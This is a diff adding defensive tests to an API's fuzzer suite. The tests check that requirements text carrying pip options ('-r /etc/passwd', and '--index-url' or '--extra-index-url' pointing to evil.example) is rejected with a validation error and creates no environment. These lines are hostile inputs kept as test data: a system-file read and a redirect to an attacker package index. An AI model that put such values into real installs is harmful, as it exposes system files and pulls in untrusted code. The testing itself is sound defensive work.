@@ -162,6 +162,19 @@ describe('what the fuzzer found', () => {
     expect((await response.json()).error).toMatchObject({ code: 'validation', field: 'offset' });
   });
 
+  it.each([
+    ['-r /etc/passwd\n', '-r'],
+    ['numpy\n--index-url http://evil.example/simple\n', '--index-url'],
+    ['numpy\n--extra-index-url=http://evil.example\n', '--extra-index-url'],
+  ])('requirements %j (a pip option) → 400 naming requirements, and no environment', async (requirements, option) => {
+    const before = await bridge.client.api.listEnvironments({});
+    const result = await post('/api/v1/environments', JSON.stringify({ name: 'opts', requirements }));
+    expect(result.status).toBe(400);
+    expect(result.body.error).toMatchObject({ code: 'validation', field: 'requirements' });
+    expect(result.body.error.message).toContain(`pip option "${option}"`);
+    expect((await bridge.client.api.listEnvironments({})).total).toBe(before.total);
+  });
+
   it('a deeply nested body → 400, and the bridge keeps serving', async () => {
     const depth = 100_000;
     for (const body of [
